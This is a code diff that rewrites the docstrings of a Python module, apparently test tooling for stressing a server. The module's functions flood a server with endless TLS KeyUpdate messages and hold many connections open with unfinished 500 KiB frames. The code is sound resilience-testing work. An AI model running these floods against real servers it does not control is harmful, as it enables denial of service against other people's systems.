@@ -17,20 +17,21 @@ from ottla.model.limits import KIB, MIB
 Address = tuple[str, int]
 ENDLESS = 1 << 40
 RECORDS_PER_CHUNK = 20_000
-"""Number of records that are prepared before they are sent.  It is large enough that the sender is
-faster than the server."""
+"""Number of TLS records of a flood that are prepared before they are sent. It is large enough that
+the sender is faster than the server."""
 CONNECT_S = 30.0
 
 STRANGERS = 700
 UNFINISHED_BYTES = 400 * KIB
 ANNOUNCED_BYTES = 500 * KIB
-"""Size that a frame announces, in bytes.  It is below `sasl.server.max.receive.size`."""
+"""Size in bytes that an unfinished frame of a flood announces. It is below
+`sasl.server.max.receive.size`."""
 IDLE_COUNT = 2_000
 PEEK_MS = 50
 
 
 def send_new_keys(address: Address, ca: Path, request: bytes) -> None:
-    """Flood a server with KeyUpdate messages. Reconnects whenever the server closes the
+    """Flood a server with TLS KeyUpdate messages. Reconnects whenever the server closes the
     connection."""
     _send_records(address, ca, lambda keys: new_keys(keys, request, ENDLESS))
 
@@ -59,8 +60,8 @@ def _exchanged(sock: socket.socket, data: bytes) -> bytes:
 
 
 def _send_all(sock: socket.socket, data: memoryview) -> None:
-    """Send all data, and read the server's output meanwhile.  Raises OSError if the connection is
-    closed."""
+    """Send all data of a flood, and read the server's output meanwhile. Raises OSError if the
+    connection is closed."""
     sock.setblocking(False)
     poll = select.poll()
     poll.register(sock, select.POLLIN | select.POLLOUT)
@@ -73,8 +74,8 @@ def _send_all(sock: socket.socket, data: memoryview) -> None:
 
 
 def send_unfinished_frames(address: Address, ca: Path, request: bytes) -> None:
-    """Send most of a frame on each of many connections. Replace connections that the server
-    closes."""
+    """Send most of a frame on each of many connections to a server. Replace connections that the
+    server closes."""
     _raise_descriptors()
     start = struct.pack(">i", ANNOUNCED_BYTES) + bytes(UNFINISHED_BYTES)
     left: dict[int, tuple[socket.socket, memoryview]] = {}
